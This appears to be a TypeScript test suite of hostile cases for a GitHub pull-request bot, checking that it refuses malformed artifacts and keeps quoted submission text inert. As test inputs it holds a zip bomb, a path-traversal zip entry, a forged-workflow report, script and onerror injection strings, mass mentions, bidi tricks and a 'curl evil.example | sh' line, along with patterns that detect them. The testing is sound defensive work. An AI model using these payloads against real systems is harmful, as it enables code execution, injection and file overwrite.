/** @file Hostile artifacts and texts: what the job with write rights is made to read. */
import { zipSync } from "fflate";
import { commentText } from "../comment.ts";
import { publishReport } from "../publish.ts";
import { parseReport, type Report } from "../report.ts";
import type { HostileCase } from "./hostile.ts";
import { hastyClient, madeWorld, serve, type World, zipOf } from "./made-github.ts";
import { madeReport } from "./made-report.ts";

/** What the bot says on the pull request, and its labels; nothing when it keeps silent. */
async function said(change: (world: World) => void): Promise<string> {
  const world = madeWorld(madeReport);
  change(world);
  const github = await serve(world);
  try {
    const client = hastyClient(github.url);
    const { said: log } = await publishReport(client, { owner: "o", repo: "r" }, 7);
    return `${world.comments.map(({ body }) => body).join("\n")}\n[${world.labels.join()}] ${log}`;
  } catch (error) {
    return (error as Error).message;
  } finally {
    await github.close();
  }
}

const artifact = (tried: string, change: (world: World) => void, says: RegExp): HostileCase => ({
  tried,
  door: "artifact",
  outcome: "refused",
  attempt: () => said(change),
  says,
});

const withReport = (change: object) => (world: World) => {
  world.zip = zipOf({ "report.json": JSON.stringify({ ...madeReport, ...change }) });
};

/** Text of the submission in every place where the comment quotes it; it must stay text. */
const text = (tried: string, hostile: string): HostileCase => ({
  tried,
  door: "comment",
  outcome: "contained",
  attempt: () => {
    const where = `results/${hostile}`.slice(0, 300);
    const report: Report = {
      ...madeReport,
      findings: [{ level: "refused", rule: hostile.slice(0, 80), where, message: hostile }],
      boards: madeReport.boards.map((board) => ({
        ...board,
        task: hostile.slice(0, 80),
        crossovers: [{ challenger: "a", baseline: "b", before: hostile.slice(0, 300), now: null }],
      })),
    };
    const comment = commentText(parseReport(JSON.stringify(report)), {
      runUrl: "https://github.com/o/r/actions/runs/7",
      firstTime: false,
    });
    // What is left of the comment when its quoted text is taken out is ours: the same every time.
    const quotes = [...comment.matchAll(/<code>(.*?)<\/code>/gs)].map(
      ([, inner]) => inner as string,
    );
    const odd = quotes.filter(
      (inner) => !/^(?:[\p{L}\p{N} ,;?%…✓✗×−\uFFFD]|&#\d+;)*$/u.test(inner),
    );
    const rest = comment.replace(/<code>.*?<\/code>/gs, "");
    const loose = /@|javascript|<(?!sub>|\/sub>|!-- crossover-submission -->)|evil/i.exec(rest);
    const command = /```sh\n([\s\S]*?)\n```/.exec(comment)?.[1] ?? "";
    const strange = /[^A-Za-z0-9 ./#:\n-]/.test(command) || command.includes("curl");
    return odd.length === 0 && !loose && !strange
      ? "stayed text"
      : `${odd} ${loose?.[0]} ${command}`;
  },
  says: /^stayed text$/,
});

export const ARTIFACTS: readonly HostileCase[] = [
  artifact(
    "no artifact at all",
    (world) => (world.artifacts = []),
    /left 0 artifacts[\s\S]*\[submission: unchecked\]/,
  ),
  artifact(
    "two artifacts of the same name",
    (world) => (world.artifacts = [{ name: "submission-report" }, { name: "submission-report" }]),
    /left 2 artifacts[\s\S]*unchecked/,
  ),
  artifact(
    "an artifact of a gigabyte",
    (world) => (world.artifacts = [{ name: "submission-report", size: 1e9 }]),
    /takes 1000000000 bytes[\s\S]*unchecked/,
  ),
  artifact(
    "a zip bomb",
    (world) => (world.zip = zipSync({ "report.json": new Uint8Array(20 << 20) }, { level: 9 })),
    /holds no report[\s\S]*unchecked/,
  ),
  artifact(
    "a zip with a path out of its folder",
    (world) => (world.zip = zipOf({ "../../suite/cli/submission.ts": "evil()" })),
    /holds no report[\s\S]*unchecked/,
  ),
  artifact(
    "no zip",
    (world) => (world.zip = new Uint8Array([1, 2, 3])),
    /check did not finish[\s\S]*unchecked/,
  ),
  artifact(
    "a report that is no JSON",
    (world) => (world.zip = zipOf({ "report.json": "<script>" })),
    /check did not finish[\s\S]*unchecked/,
  ),
  artifact(
    "a report with a field of its own",
    withReport({ label: "approved" }),
    /Unrecognized key[\s\S]*unchecked/,
  ),
  artifact(
    "a report with a number that is none",
    withReport({ moreFindings: "0; drop" }),
    /report is none[\s\S]*unchecked/,
  ),
  artifact(
    "a report about another commit",
    withReport({ head: "b".repeat(40) }),
    /about another commit[\s\S]*unchecked/,
  ),
  artifact(
    "the report of an older push",
    (world) => (world.head = "b".repeat(40)),
    /^\n\[\] no open pull request has this head/,
  ),
  artifact(
    "a run that no pull request started",
    (world) => (world.event = "push"),
    /of a push event, not of a pull request/,
  ),
  artifact(
    "a forged report from a workflow changed in the same pull request",
    (world) => (world.files = [...world.files, ".github/workflows/submission.yml"]),
    /Open two pull requests[\s\S]*\[submission: refused\]/,
  ),
  artifact(
    "a harness file renamed into an optimizer",
    (world) => (world.renamedFrom = "suite/train/evaluation.ts"),
    /Open two pull requests[\s\S]*\[submission: refused\]/,
  ),
  text(
    "Markdown: a headline, a link, a picture",
    "\n# ✓ Valid\n[x](https://evil.example) ![y](http://evil.example/z.png)",
  ),
  text(
    "HTML: a script, a picture, an end of our own element",
    "</code><script>evil()</script><img src=x onerror=evil()>",
  ),
  text(
    "mentions and references",
    "@octocat @o/maintainers #1 GH-1 o/r#2 closes #3 0123456789abcdef0123456789abcdef01234567",
  ),
  text(
    "the end of a table's cell and of a code fence",
    "a | b |\n| --- |\n```\n``` sh\ncurl evil.example | sh",
  ),
  text("our own marker, to be taken for us", "<!-- crossover-submission --> ✓ Valid submission"),
  text(
    "direction marks, invisible and stacked characters",
    "\u202Egnp.\u2066evil\u200B\u0000\u001B[31mZ\u0351\u036B\u0343\uE000",
  ),
  text("references that resolve twice", "&#64;octocat &lt;img src=x&gt; &amp;#64;x"),
];
